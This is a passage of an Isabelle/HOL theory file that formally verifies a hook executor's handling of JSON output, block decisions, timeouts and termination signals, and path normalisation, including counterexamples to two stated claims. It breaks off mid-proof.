  Claim C8, amended. The close handler never throws, whatever the parser does. The
  result carries the trimmed standard output. When that text is not empty it is handed to
  \<open>JSON.parse\<close>, and whatever value \<open>JSON.parse\<close> returns, of any shape, is the
  \<open>jsonOutput\<close> of the result; \<open>jsonOutput\<close> is absent when the text is empty or
  \<open>JSON.parse\<close> throws. In the latter case the standard output is plain text: with exit
  code 0 it is the context that the dispatch adds. And for a command that \<open>spawn\<close>
  accepts, every run whose child closes without an error of one of its streams before
  that resolves, with no exception left uncaught, with the result that the handler
  packages from what the child wrote.
\<close>

theorem parse_failure_is_not_an_error:
  "(\<exists>r. package_result P code out err timed_out failure = Inr r \<and>
        stdout r = trim out \<and>
        jsonOutput r =
          (if trim out = [] then None
           else case JSON_parse P (trim out) of Inl e \<Rightarrow> None | Inr v \<Rightarrow> Some v)) \<and>
   (\<forall>r e. package_result P (Some 0) out err timed_out failure = Inr r \<and> trim out \<noteq> [] \<and>
        JSON_parse P (trim out) = Inl e \<longrightarrow>
      contextToAdd (aggregate [r]) = [JStr (trim out)]) \<and>
   (\<forall>before t rest. spawn_check (command c) (cwd eventData) = None \<and>
        (\<forall>e\<in>set before. \<not> is_Close (snd e) \<and> \<not> is_Stream_error (snd e)) \<longrightarrow>
      (\<exists>r. resolved (executeCommand P c eventData (before @ (t, Close code) # rest)) = Some r \<and>
           rejected (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
           uncaught (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
           package_result P code (stdout_written before) (stderr_written before)
             (timedOut r) (error r) = Inr r))"
proof -
  have "\<exists>r. package_result P code out err timed_out failure = Inr r \<and>
        stdout r = trim out \<and>
        jsonOutput r =
          (if trim out = [] then None
           else case JSON_parse P (trim out) of Inl e \<Rightarrow> None | Inr v \<Rightarrow> Some v)"
    by (auto simp: package_result_def parse_stdout_def try_catch_def and_then_def
        split: sum.splits)
  moreover have "\<forall>r e. package_result P (Some 0) out err timed_out failure = Inr r \<and>
        trim out \<noteq> [] \<and> JSON_parse P (trim out) = Inl e \<longrightarrow>
      contextToAdd (aggregate [r]) = [JStr (trim out)]"
    by (auto simp: package_result_def parse_stdout_def try_catch_def and_then_def aggregate_def
        process_result_def process_stdout_def process_json_def process_exit_def
        split: sum.splits)
  moreover have "\<forall>before t rest. spawn_check (command c) (cwd eventData) = None \<and>
        (\<forall>e\<in>set before. \<not> is_Close (snd e) \<and> \<not> is_Stream_error (snd e)) \<longrightarrow>
      (\<exists>r. resolved (executeCommand P c eventData (before @ (t, Close code) # rest)) = Some r \<and>
           rejected (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
           uncaught (executeCommand P c eventData (before @ (t, Close code) # rest)) = None \<and>
           package_result P code (stdout_written before) (stderr_written before)
             (timedOut r) (error r) = Inr r)"
    using executeCommand_closes by blast
  ultimately show ?thesis by blast
qed

text \<open>
  A hook that reads its standard input and writes a line that is not JSON: the run
  resolves, the result has no \<open>jsonOutput\<close>, and the trimmed text is added as context.
\<close>

theorem parse_failure_is_not_an_error_witness:
  "JSON_parse node (trim plain_stdout) = Inl (SyntaxError ''Unexpected token in JSON'') \<and>
   package_result node (Some 0) plain_stdout [] False None = Inr plain_result \<and>
   jsonOutput plain_result = None \<and>
   stdout plain_result = ''Hook executed for Bash tool'' \<and>
   contextToAdd (aggregate [plain_result]) = [JStr ''Hook executed for Bash tool''] \<and>
   spawn_check (command plain_command) (cwd sample_event) = None \<and>
   resolved (executeCommand node plain_command sample_event plain_trace) = Some plain_result \<and>
   rejected (executeCommand node plain_command sample_event plain_trace) = None \<and>
   uncaught (executeCommand node plain_command sample_event plain_trace) = None"
proof -
  have fails: "JSON_parse node (trim plain_stdout) = Inl (SyntaxError ''Unexpected token in JSON'')"
    by (simp add: node_def trim_plain json_parse_plain)
  have ok: "spawn_check (command plain_command) (cwd sample_event) = None"
    by (simp add: spawn_check_def plain_command_def sample_event_def)
  have quiet: "\<forall>e\<in>set [(20, Stdout_data plain_stdout), (21, Exit_event)].
      \<not> is_Close (snd e) \<and> \<not> is_Stream_error (snd e)"
    by simp
  have tr: "plain_trace =
      [(20, Stdout_data plain_stdout), (21, Exit_event)] @ (21, Close (Some 0)) # []"
    by (simp add: plain_trace_def)
  note facts = parse_failure_is_not_an_error [of node "Some 0" plain_stdout "[]" False None
      plain_command sample_event]
  from facts ok quiet
  have "\<exists>r. resolved (executeCommand node plain_command sample_event
              ([(20, Stdout_data plain_stdout), (21, Exit_event)] @ (21, Close (Some 0)) # [])) =
              Some r \<and>
           rejected (executeCommand node plain_command sample_event
              ([(20, Stdout_data plain_stdout), (21, Exit_event)] @ (21, Close (Some 0)) # [])) =
              None \<and>
           uncaught (executeCommand node plain_command sample_event
              ([(20, Stdout_data plain_stdout), (21, Exit_event)] @ (21, Close (Some 0)) # [])) =
              None \<and>
           package_result node (Some 0)
             (stdout_written [(20, Stdout_data plain_stdout), (21, Exit_event)])
             (stderr_written [(20, Stdout_data plain_stdout), (21, Exit_event)])
             (timedOut r) (error r) = Inr r"
    by blast
  then have unc: "rejected (executeCommand node plain_command sample_event plain_trace) = None \<and>
      uncaught (executeCommand node plain_command sample_event plain_trace) = None"
    unfolding tr by blast
  from facts fails plain_package
  have ctx: "contextToAdd (aggregate [plain_result]) = [JStr (trim plain_stdout)]"
    by (simp add: trim_plain)
  show ?thesis
    using fails plain_package plain_run unc ctx ok
    by (simp add: trim_plain plain_result_def)
qed

subsection \<open>When a dispatch blocks\<close>

text \<open>
  Claim C10. When a dispatch resolves, \<open>shouldBlock\<close> is true exactly when some result
  of the list has exit code 2 with a non-empty \<open>stderr\<close>, or carries a structured output
  whose \<open>decision\<close> is \<open>'block'\<close>. A result with exit code 2 and an empty \<open>stderr\<close>
  that carries no block decision leaves \<open>shouldBlock\<close> as it was, and once \<open>shouldBlock\<close>
  is true no further results make it false.
\<close>

theorem shouldBlock_iff:
  assumes "executeHooks P children eventName eventData hookConfig toolName = Resolved R"
  shows "(shouldBlock R \<longleftrightarrow> (\<exists>r\<in>set (results R). exit_blocks r \<or> decision_blocks r)) \<and>
         (\<forall>acc r. exitCode r = 2 \<and> stderr r = [] \<and> \<not> decision_blocks r \<longrightarrow>
            shouldBlock (process_result acc r) = shouldBlock acc) \<and>
         (\<forall>acc rs. shouldBlock acc \<longrightarrow> shouldBlock (foldl process_result acc rs))"
proof -
  from assms have "R = aggregate (results R)"
    by (simp add: executeHooks_Resolved)
  then have "shouldBlock R = shouldBlock (aggregate (results R))" by simp
  then have "shouldBlock R \<longleftrightarrow> (\<exists>r\<in>set (results R). exit_blocks r \<or> decision_blocks r)"
    by (simp only: shouldBlock_aggregate)
  moreover have "\<forall>acc r. exitCode r = 2 \<and> stderr r = [] \<and> \<not> decision_blocks r \<longrightarrow>
            shouldBlock (process_result acc r) = shouldBlock acc"
    by (simp add: shouldBlock_process_result exit_blocks_def)
  moreover have "\<forall>acc rs. shouldBlock acc \<longrightarrow> shouldBlock (foldl process_result acc rs)"
    by (simp add: shouldBlock_foldl)
  ultimately show ?thesis by blast
qed

text \<open>
  Scenario B blocks by its exit code; processing the result of Scenario D after it keeps
  the block; an exit code 2 with nothing on the standard error does not block.
\<close>

theorem shouldBlock_iff_witness:
  "executeHooks node (\<lambda>i. scenario_B_trace) PreToolUse sample_event
     (bash_config [scenario_B_command]) (Some ''Bash'') = Resolved scenario_B_dispatch \<and>
   shouldBlock scenario_B_dispatch \<and> exit_blocks scenario_B_result \<and>
   shouldBlock (foldl process_result scenario_B_dispatch [scenario_D_result]) \<and>
   \<not> shouldBlock (process_result no_results
        \<lparr> success = False, exitCode = 2, stdout = [], stderr = [], timedOut = False,
          error = None, jsonOutput = None \<rparr>)"
proof -
  note facts = shouldBlock_iff [OF scenario_B_executeHooks]
  have eb: "exit_blocks scenario_B_result"
    by (simp add: exit_blocks_def scenario_B_result_def)
  have rs: "results scenario_B_dispatch = [scenario_B_result]"
    by (simp add: scenario_B_dispatch_def)
  have sb: "shouldBlock scenario_B_dispatch"
    using facts eb rs by simp
  have quiet: "\<not> decision_blocks \<lparr> success = False, exitCode = 2, stdout = [], stderr = [],
      timedOut = False, error = None, jsonOutput = None \<rparr>"
    by (simp add: decision_blocks_def)
  have nb: "\<not> shouldBlock no_results" by (simp add: no_results_def)
  from facts have mono: "\<forall>acc rs. shouldBlock acc \<longrightarrow> shouldBlock (foldl process_result acc rs)"
    by blast
  from facts have skip: "\<forall>acc r. exitCode r = 2 \<and> stderr r = [] \<and> \<not> decision_blocks r \<longrightarrow>
            shouldBlock (process_result acc r) = shouldBlock acc"
    by blast
  have later: "shouldBlock (foldl process_result scenario_B_dispatch [scenario_D_result])"
    using mono sb by blast
  have empty: "shouldBlock (process_result no_results
        \<lparr> success = False, exitCode = 2, stdout = [], stderr = [], timedOut = False,
          error = None, jsonOutput = None \<rparr>) = shouldBlock no_results"
    using skip quiet by simp
  show ?thesis
    using scenario_B_executeHooks sb eb later empty nb by simp
qed

text \<open>
  Claim C1, as stated, fails: a single hook exits with 2 and the non-empty \<open>stderr\<close>
  \<open>blocked\<close>, and the dispatch has \<open>blockReason\<close> \<open>nope\<close>, the \<open>reason\<close> of the block
  decision on the same hook's standard output.
\<close>

theorem exit2_reason_counterexample:
  "executeHooks node (\<lambda>i. override_trace) PreToolUse sample_event
     (bash_config [override_command]) (Some ''Bash'') = Resolved override_dispatch \<and>
   results override_dispatch = [override_result] \<and>
   exitCode override_result = 2 \<and> stderr override_result = ''blocked'' \<and>
   shouldBlock override_dispatch \<and>
   blockReason override_dispatch = Some (JStr ''nope'')"
  using executeHooks_single [OF bash_config_selected, of override_command sample_event
      "\<lambda>i. override_trace" override_result]
  by (simp add: override_run override_aggregate) (simp add: override_dispatch_def override_result_def)

text \<open>
  Claim C1, amended. For every result of a resolved dispatch with exit code 2 and a
  non-empty \<open>stderr\<close> (which is trimmed), \<open>shouldBlock\<close> is true; and \<open>blockReason\<close> is
  that \<open>stderr\<close> when the result carries no block decision of its own and no later
  result blocks, by its exit code or by its decision.
\<close>

theorem exit2_blocks:
  assumes "executeHooks P children eventName eventData hookConfig toolName = Resolved R"
    and "results R = pre @ r # post"
    and "exitCode r = 2" and "stderr r \<noteq> []"
  shows "shouldBlock R \<and> trim (stderr r) = stderr r \<and>
         (\<not> decision_blocks r \<and> (\<forall>r'\<in>set post. \<not> exit_blocks r' \<and> \<not> decision_blocks r') \<longrightarrow>
            blockReason R = Some (JStr (stderr r)))"
proof -
  from assms(1) have R: "R = aggregate (results R)" and pk: "\<forall>x\<in>set (results R). packaged P x"
    by (simp_all add: executeHooks_Resolved)
  have blocks: "exit_blocks r"
    using assms(3,4) by (simp add: exit_blocks_def)
  have "shouldBlock (aggregate (pre @ r # post))"
    using blocks by (simp add: shouldBlock_aggregate)
  then have "shouldBlock R"
    using R assms(2) by simp
  moreover have "trim (stderr r) = stderr r"
    using pk assms(2) by (simp add: packaged_def)
  moreover have "blockReason R = Some (JStr (stderr r))"
    if "\<not> decision_blocks r" and "\<forall>r'\<in>set post. \<not> exit_blocks r' \<and> \<not> decision_blocks r'"
  proof -
    have "blockReason (aggregate (pre @ r # post)) = Some (JStr (stderr r))"
      using that blocks by (simp add: blockReason_aggregate_last)
    then show ?thesis using R assms(2) by simp
  qed
  ultimately show ?thesis by blast
qed

text \<open>
  Scenario B: the one result exits with 2 and \<open>blocked\<close> on its standard error, and the
  dispatch blocks with that reason.
\<close>

theorem exit2_blocks_witness:
  "executeHooks node (\<lambda>i. scenario_B_trace) PreToolUse sample_event
     (bash_config [scenario_B_command]) (Some ''Bash'') = Resolved scenario_B_dispatch \<and>
   results scenario_B_dispatch = [] @ scenario_B_result # [] \<and>
   exitCode scenario_B_result = 2 \<and> stderr scenario_B_result = ''blocked'' \<and>
   \<not> decision_blocks scenario_B_result \<and>
   shouldBlock scenario_B_dispatch \<and>
   blockReason scenario_B_dispatch = Some (JStr ''blocked'')"
proof -
  have rs: "results scenario_B_dispatch = [] @ scenario_B_result # []"
    by (simp add: scenario_B_dispatch_def)
  have e: "exitCode scenario_B_result = 2" by (simp add: scenario_B_result_def)
  have err: "stderr scenario_B_result \<noteq> []" by (simp add: scenario_B_result_def)
  have nd: "\<not> decision_blocks scenario_B_result"
    by (simp add: decision_blocks_def scenario_B_result_def)
  show ?thesis
    using exit2_blocks [OF scenario_B_executeHooks rs e err] scenario_B_executeHooks rs e nd
    by (simp add: scenario_B_result_def)
qed

subsection \<open>A dispatch that runs nothing\<close>

text \<open>
  Claim C9. When the event name is absent from the configuration, and when every matcher
  of the event is excluded by the tool name or has no commands, \<open>executeHooks\<close> does not
  throw and does not wait: it resolves with no results, \<open>shouldBlock\<close> false,
  \<open>shouldContinue\<close> true, no context, and \<open>blockReason\<close> and \<open>stopReason\<close> absent.
\<close>

theorem no_match_defaults:
  assumes "hookConfig eventName = None \<or>
           (\<exists>ms. hookConfig eventName = Some ms \<and>
                 (\<forall>hm\<in>set ms. matchesPattern P hm toolName = Inr False \<or> hooks hm = []))"
  shows "executeHooks P children eventName eventData hookConfig toolName = Resolved no_results"
proof -
  have "concat (map hooks (filter (\<lambda>hm. matchesPattern P hm toolName = Inr True)
            (case hookConfig eventName of None \<Rightarrow> [] | Some ms \<Rightarrow> ms))) = []"
    using assms by (fastforce split: option.splits)
  then have "selected_commands P hookConfig eventName toolName = Inr []"
    by (simp add: selected_commands_eq)
  then show ?thesis by (rule executeHooks_no_commands)
qed

text \<open>
  Scenario E, a matcher for \<open>Bash\<close> dispatched with the tool name \<open>Edit\<close>, and an event
  that the configuration does not mention.
\<close>

theorem no_match_defaults_witness:
  "executeHooks node (\<lambda>i. scenario_B_trace) PreToolUse sample_event
     (bash_config [scenario_B_command]) (Some ''Edit'') = Resolved no_results \<and>
   executeHooks node (\<lambda>i. scenario_B_trace) Stop sample_event
     (bash_config [scenario_B_command]) None = Resolved no_results"
proof -
  have absent: "bash_config [scenario_B_command] Stop = None"
    by (simp add: bash_config_def)
  have excluded: "bash_config [scenario_B_command] PreToolUse = None \<or>
    (\<exists>ms. bash_config [scenario_B_command] PreToolUse = Some ms \<and>
       (\<forall>hm\<in>set ms. matchesPattern node hm (Some ''Edit'') = Inr False \<or> hooks hm = []))"
    by (simp add: bash_config_def bash_config_Edit)
  show ?thesis
    using no_match_defaults [of "bash_config [scenario_B_command]" PreToolUse node
        "Some ''Edit''" "\<lambda>i. scenario_B_trace" sample_event]
      no_match_defaults [of "bash_config [scenario_B_command]" Stop node None
        "\<lambda>i. scenario_B_trace" sample_event] absent excluded
    by simp
qed

subsection \<open>Scenario D\<close>

text \<open>
  Claim C4. A dispatch that resolves with a single result, of exit code 0 and with the
  standard output of Scenario D, has \<open>shouldBlock\<close> true, \<open>blockReason\<close> \<open>nope\<close>,
  \<open>shouldContinue\<close> false and \<open>stopReason\<close> \<open>policy\<close>, when \<open>JSON.parse\<close> is the parser
  of the JSON grammar.
\<close>

theorem structured_block_and_stop:
  assumes "JSON_parse P = json_parse"
    and "executeHooks P children eventName eventData hookConfig toolName = Resolved R"
    and "results R = [r]" and "exitCode r = 0" and "stdout r = scenario_D_stdout"
  shows "shouldBlock R \<and> blockReason R = Some (JStr ''nope'') \<and>
         \<not> shouldContinue R \<and> stopReason R = Some (JStr ''policy'')"
proof -
  from assms(2) have R: "R = aggregate (results R)" and pk: "\<forall>x\<in>set (results R). packaged P x"
    by (simp_all add: executeHooks_Resolved)
  have "scenario_D_stdout \<noteq> []" by (simp add: scenario_D_stdout_def)
  then have "parse_stdout P scenario_D_stdout =
     Inr (Some (JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope''),
                (''continue'', JBool False), (''stopReason'', JStr ''policy'')]))"
    by (simp add: parse_stdout_def trim_scenario_D assms(1) json_parse_scenario_D
        try_catch_def and_then_def)
  moreover have "parse_stdout P scenario_D_stdout = Inr (jsonOutput r)"
    using pk assms(3,5) by (simp add: packaged_def)
  ultimately have j: "jsonOutput r =
     Some (JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope''),
                (''continue'', JBool False), (''stopReason'', JStr ''policy'')])"
    by simp
  have "R = aggregate [r]" using R assms(3) by simp
  then show ?thesis
    by (simp add: aggregate_def process_result_def process_stdout_def process_json_def
        process_exit_def j assms(4))
qed

text \<open>
  The whole dispatch of Scenario D, from the configuration and the child's output to the
  decision.
\<close>

theorem structured_block_and_stop_witness:
  "JSON_parse node = json_parse \<and>
   executeHooks node (\<lambda>i. scenario_D_trace) PreToolUse sample_event
     (bash_config [scenario_D_command]) (Some ''Bash'') = Resolved scenario_D_dispatch \<and>
   results scenario_D_dispatch = [scenario_D_result] \<and>
   exitCode scenario_D_result = 0 \<and> stdout scenario_D_result = scenario_D_stdout \<and>
   shouldBlock scenario_D_dispatch \<and> blockReason scenario_D_dispatch = Some (JStr ''nope'') \<and>
   \<not> shouldContinue scenario_D_dispatch \<and> stopReason scenario_D_dispatch = Some (JStr ''policy'')"
proof -
  have p: "JSON_parse node = json_parse" by (simp add: node_def)
  have rs: "results scenario_D_dispatch = [scenario_D_result]"
    by (simp add: scenario_D_dispatch_def)
  have e: "exitCode scenario_D_result = 0" by (simp add: scenario_D_result_def)
  have out: "stdout scenario_D_result = scenario_D_stdout" by (simp add: scenario_D_result_def)
  show ?thesis
    using structured_block_and_stop [OF p scenario_D_executeHooks rs e out] p scenario_D_executeHooks rs e out
    by simp
qed

subsection \<open>Timeout, termination and the grace period\<close>

text \<open>
  The invariant holds when the executor of the promise returns and every step of the
  event loop keeps it. The \<open>SIGTERM\<close> of the timeout callback is delivered and sets
  \<open>killed\<close> unless the process has ended; either way the grace callback sends nothing.
\<close>

lemma invariant_promise_executor: "runner_invariant (promise_executor c eventData)"
  by (simp add: runner_invariant_def promise_executor_def spawned_def spawn_threw_def
      split: option.splits)

lemma invariant_on_timeout:
  "runner_invariant st \<Longrightarrow> runner_invariant (on_timeout d st)"
  by (simp add: runner_invariant_def on_timeout_def child_kill_def)

lemma invariant_on_grace:
  "runner_invariant st \<Longrightarrow> graceTimer st = Some g \<Longrightarrow> runner_invariant (on_grace g st)"
  by (auto simp: runner_invariant_def on_grace_def child_kill_def Let_def)

lemma invariant_fire_due: "runner_invariant st \<Longrightarrow> runner_invariant (fire_due t st)"
  by (auto simp: fire_due_def Let_def invariant_on_timeout invariant_on_grace
      split: option.splits)

lemma invariant_drain: "runner_invariant st \<Longrightarrow> runner_invariant (drain st)"
  by (auto simp: drain_def Let_def invariant_on_timeout invariant_on_grace
      split: option.splits)

lemma invariant_on_event: "runner_invariant st \<Longrightarrow> runner_invariant (on_event P ev st)"
  by (cases ev) (auto simp: runner_invariant_def on_close_def Let_def split: sum.splits)

lemma invariant_event_loop:
  "runner_invariant st \<Longrightarrow> runner_invariant (event_loop P trace st)"
proof (induction trace arbitrary: st)
  case Nil
  then show ?case by (simp add: invariant_drain)
next
  case (Cons e trace)
  obtain t ev where e: "e = (t, ev)" by (cases e)
  have "runner_invariant (on_event P ev (fire_due t st))"
    using Cons.prems by (simp add: invariant_fire_due invariant_on_event)
  then show ?case
    using Cons.IH e by (simp add: Let_def invariant_drain)
qed

text \<open>
  No run of \<open>executeCommand\<close>, for any command and any behaviour of the child, delivers
  \<open>SIGKILL\<close>.
\<close>

lemma never_SIGKILL:
  "(t, SIGKILL) \<notin> set (child_signals (executeCommand P c eventData trace))"
proof -
  have "runner_invariant (executeCommand P c eventData trace)"
    unfolding executeCommand_def
    by (simp add: Let_def invariant_event_loop invariant_promise_executor)
  then show ?thesis
    by (auto simp: runner_invariant_def)
qed

text \<open>
  What does hold of a command that runs beyond its timeout: when the child closes at or
  after the time at which the timeout timer is due, and its process has not ended before
  that, the promise resolves with \<open>timedOut = true\<close>, and \<open>SIGTERM\<close> was sent at the
  time the timer was due.
\<close>

lemma awaiting_spawned: "awaiting (setTimeout_delay (timeoutMs c)) (spawned c eventData)"
  by (simp add: awaiting_def spawned_def)

lemma awaiting_fire_due: "awaiting d st \<Longrightarrow> awaiting d (fire_due t st)"
  by (auto simp: awaiting_def fire_due_def on_timeout_def on_grace_def child_kill_def Let_def
      split: option.splits)

lemma awaiting_fire_due_late:
  "awaiting d st \<Longrightarrow> d \<le> t \<Longrightarrow> timed_out_at d (fire_due t st)"
  by (auto simp: awaiting_def timed_out_at_def fire_due_def on_timeout_def on_grace_def
      child_kill_def Let_def split: option.splits)

lemma awaiting_on_event: "awaiting d st \<Longrightarrow> running ev \<Longrightarrow> awaiting d (on_event P ev st)"
  by (cases ev) (auto simp: awaiting_def running_def)

lemma signals_on_grace: "set (child_signals st) \<subseteq> set (child_signals (on_grace g st))"
  by (auto simp: on_grace_def child_kill_def Let_def)

lemma signals_on_timeout: "set (child_signals st) \<subseteq> set (child_signals (on_timeout g st))"
  by (auto simp: on_timeout_def child_kill_def Let_def)

lemma signals_drain: "set (child_signals st) \<subseteq> set (child_signals (drain st))"
proof -
  define st1 where "st1 = (case timeoutId st of Some d \<Rightarrow> on_timeout d st | None \<Rightarrow> st)"
  have a: "set (child_signals st) \<subseteq> set (child_signals st1)"
    using signals_on_timeout by (auto simp: st1_def split: option.splits)
  have b: "set (child_signals st1) \<subseteq> set (child_signals (drain st))"
    using signals_on_grace [of st1] by (auto simp: drain_def Let_def st1_def [symmetric] split: option.splits)
  from a b show ?thesis by blast
qed

lemma timed_out_at_close:
  assumes "timed_out_at d st"
  shows "\<exists>r. resolved (drain (on_close P code st)) = Some r \<and> timedOut r \<and>
             uncaught (on_close P code st) = None \<and>
             (d, SIGTERM) \<in> set (child_signals (drain (on_close P code st)))"
proof -
  obtain r where r: "package_result P code (var_stdout st) (var_stderr st) (var_timedOut st)
      (var_error st) = Inr r" and t: "timedOut r = var_timedOut st"
    using package_result_total by blast
  have res: "resolved (on_close P code st) = Some r"
    using r by (simp add: on_close_def Let_def)
  have sig: "(d, SIGTERM) \<in> set (child_signals (on_close P code st))"
    using assms r by (simp add: on_close_def Let_def timed_out_at_def)
  have "timedOut r" using t assms by (simp add: timed_out_at_def)
  moreover have "resolved (drain (on_close P code st)) = Some r"
    using res by (simp add: resolved_drain)
  moreover have "uncaught (on_close P code st) = None"
    using assms by (simp add: timed_out_at_def uncaught_on_close)
  moreover have "(d, SIGTERM) \<in> set (child_signals (drain (on_close P code st)))"
    using sig signals_drain by blast
  ultimately show ?thesis by blast
qed

lemma event_loop_timeout:
  assumes "awaiting d st"
    and "\<forall>e\<in>set before. running (snd e)"
    and "d \<le> t"
  shows "\<exists>r. resolved (event_loop P (before @ (t, Close code) # rest) st) = Some r \<and> timedOut r \<and>
             (d, SIGTERM) \<in> set (child_signals (event_loop P (before @ (t, Close code) # rest) st))"
  using assms
proof (induction before arbitrary: st)
  case Nil
  have "timed_out_at d (fire_due t st)"
    using Nil.prems(1,3) by (rule awaiting_fire_due_late)
  then show ?case
    using timed_out_at_close [of d "fire_due t st" P code] by (auto simp: Let_def)
next
  case (Cons e before)
  obtain u ev where e: "e = (u, ev)" by (cases e)
  with Cons.prems(2) have run: "running ev" by simp
  then have nc: "\<not> is_Close ev" by (simp add: running_def)
  have aw: "awaiting d (on_event P ev (fire_due u st))"
    using Cons.prems(1) run by (simp add: awaiting_fire_due awaiting_on_event)
  then have "uncaught (on_event P ev (fire_due u st)) = None"
    by (simp add: awaiting_def)
  then show ?case
    using Cons.IH [of "on_event P ev (fire_due u st)"] aw Cons.prems(2,3) e nc
    by (simp add: Let_def)
qed

lemma overrun_is_timed_out:
  assumes "spawn_check (command c) (cwd eventData) = None"
    and "\<forall>e\<in>set before. running (snd e)"
    and "setTimeout_delay (timeoutMs c) \<le> t"
  shows "\<exists>r. resolved (executeCommand P c eventData (before @ (t, Close code) # rest)) = Some r \<and>
             timedOut r \<and>
             (setTimeout_delay (timeoutMs c), SIGTERM) \<in>
               set (child_signals (executeCommand P c eventData (before @ (t, Close code) # rest)))"
proof -
  have run: "executeCommand P c eventData trace = event_loop P trace (spawned c eventData)"
    for trace
    using assms(1) by (simp add: executeCommand_def promise_executor_def spawned_def)
  show ?thesis
    unfolding run
    using awaiting_spawned assms(2,3) by (rule event_loop_timeout)
qed

text \<open>
  Claim C2 at a hook that ignores the termination signal. The command has a timeout of
  1 second and its process closes after 10 seconds. The run marks \<open>timedOut\<close> and sends
  \<open>SIGTERM\<close> at 1000 ms, as the claim says. At 6000 ms the process has not exited, and
  the claim has \<open>SIGKILL\<close> sent then; the run sends nothing more: \<open>SIGTERM\<close> at 1000 ms
  is the only signal of the whole run.
\<close>

theorem stubborn_hook_is_never_killed:
  "executeCommand P stubborn_command sample_event stubborn_trace =
     \<lparr> var_timedOut = True, var_stdout = [], var_stderr = [], var_error = None,
       timeoutId = None, graceTimer = None, child_killed = True, child_exited = True,
       child_closed = True, child_signals = [(1000, SIGTERM)],
       child_stdin = Some (HookEventData_object sample_event),
       resolved = Some \<lparr> success = True, exitCode = 0, stdout = [], stderr = [],
                         timedOut = True, error = None, jsonOutput = None \<rparr>,
       rejected = None, uncaught = None \<rparr>"
  by (simp add: run_defs stubborn_command_def stubborn_trace_def trim_Nil)

subsection \<open>Path validation\<close>

lemma split_slash_nonempty: "split_slash p \<noteq> []"
  by (induction p) (auto split: list.splits)

lemma split_slash_no_slash: "s \<in> set (split_slash p) \<Longrightarrow> CHR ''/'' \<notin> set s"
proof (induction p arbitrary: s)
  case Nil
  then show ?case by simp
next
  case (Cons c p)
  show ?case
  proof (cases "c = CHR ''/''")
    case True
    with Cons show ?thesis by auto
  next
    case False
    obtain x xs where sp: "split_slash p = x # xs"
      using split_slash_nonempty [of p] by (cases "split_slash p") auto
    with Cons.prems False have "s = c # x \<or> s \<in> set xs" by auto
    then show ?thesis
    proof
      assume "s = c # x"
      moreover have "CHR ''/'' \<notin> set x" using Cons.IH [of x] sp by simp
      ultimately show ?thesis using False by auto
    next
      assume "s \<in> set xs"
      then show ?thesis using Cons.IH [of s] sp by simp
    qed
  qed
qed

lemma split_slash_segment: "CHR ''/'' \<notin> set s \<Longrightarrow> split_slash s = [s]"
  by (induction s) auto

lemma split_slash_cons_segment:
  "CHR ''/'' \<notin> set s \<Longrightarrow> split_slash (s @ CHR ''/'' # rest) = s # split_slash rest"
  by (induction s) auto

lemma split_slash_join:
  "segs \<noteq> [] \<Longrightarrow> \<forall>s\<in>set segs. CHR ''/'' \<notin> set s \<Longrightarrow> split_slash (join_slash segs) = segs"
proof (induction segs rule: join_slash.induct)
  case 1
  then show ?case by simp
next
  case (2 s)
  then show ?case by (simp add: split_slash_segment)
next
  case (3 s t ss)
  then show ?case by (simp add: split_slash_cons_segment)
qed

lemma split_slash_snoc: "split_slash (x @ ''/'') = split_slash x @ [[]]"
proof (induction x)
  case Nil
  then show ?case by simp
next
  case (Cons c x)
  obtain y ys where "split_slash x = y # ys"
    using split_slash_nonempty [of x] by (cases "split_slash x") auto
  with Cons show ?case by auto
qed

lemma kept_shape_step:
  assumes "kept_shape allow kept" and "CHR ''/'' \<notin> set seg"
  shows "kept_shape allow (normalize_step allow kept seg)"
proof -
  from assms(1) obtain ns k where kept: "kept = ns @ replicate k ''..''"
    and ns: "\<forall>s\<in>set ns. plain_segment s" and k: "\<not> allow \<longrightarrow> k = 0"
    unfolding kept_shape_def by blast
  consider (skip) "seg = [] \<or> seg = ''.''" | (up) "seg = ''..''"
    | (seg) "seg \<noteq> []" "seg \<noteq> ''.''" "seg \<noteq> ''..''"
    by blast
  then show ?thesis
  proof cases
    case skip
    then show ?thesis using assms(1) by (auto simp: normalize_step_def)
  next
    case seg
    then have "plain_segment seg" using assms(2) by (simp add: plain_segment_def)
    then have "kept_shape allow ((seg # ns) @ replicate k ''..'')"
      unfolding kept_shape_def using ns k by (intro exI [of _ "seg # ns"] exI [of _ k]) simp
    then show ?thesis using seg kept by (simp add: normalize_step_def)
  next
    case up
    show ?thesis
    proof (cases ns)
      case (Cons s ns')
      then have "s \<noteq> ''..''" using ns by (auto simp: plain_segment_def)
      moreover have "kept_shape allow (ns' @ replicate k ''..'')"
        unfolding kept_shape_def using ns k Cons by (intro exI [of _ ns'] exI [of _ k]) simp
      ultimately show ?thesis using up kept Cons by (simp add: normalize_step_def)
    next
      case Nil
      show ?thesis
      proof (cases allow)
        case True
        have "kept_shape allow ([] @ replicate (Suc k) ''..'')"
          unfolding kept_shape_def using True by (intro exI [of _ "[]"] exI [of _ "Suc k"]) simp
        then show ?thesis
          using up kept Nil True by (cases k) (simp_all add: normalize_step_def)
      next
        case False
        with k have "k = 0" by simp
        then show ?thesis
          using up kept Nil False assms(1) by (simp add: normalize_step_def)
      qed
    qed
  qed
qed

lemma kept_shape_foldl:
  "kept_shape allow kept \<Longrightarrow> \<forall>s\<in>set segs. CHR ''/'' \<notin> set s \<Longrightarrow>
   kept_shape allow (foldl (normalize_step allow) kept segs)"
  by (induction segs arbitrary: kept) (simp_all add: kept_shape_step)

lemma normalizeString_shape:
  "\<exists>ms k. normalizeString path allow = join_slash (replicate k ''..'' @ ms) \<and>
          (\<forall>s\<in>set ms. plain_segment s) \<and> (\<not> allow \<longrightarrow> k = 0)"
proof -
  have "kept_shape allow []"
    unfolding kept_shape_def by (intro exI [of _ "[]"] exI [of _ "0::nat"]) simp
  then have "kept_shape allow (foldl (normalize_step allow) [] (split_slash path))"
    by (rule kept_shape_foldl) (simp add: split_slash_no_slash)
  then obtain ns k where kept: "foldl (normalize_step allow) [] (split_slash path) = ns @ replicate k ''..''"
    and ns: "\<forall>s\<in>set ns. plain_segment s" and k: "\<not> allow \<longrightarrow> k = 0"
    unfolding kept_shape_def by blast
  have "normalizeString path allow = join_slash (replicate k ''..'' @ rev ns)"
    by (simp add: normalizeString_def kept)
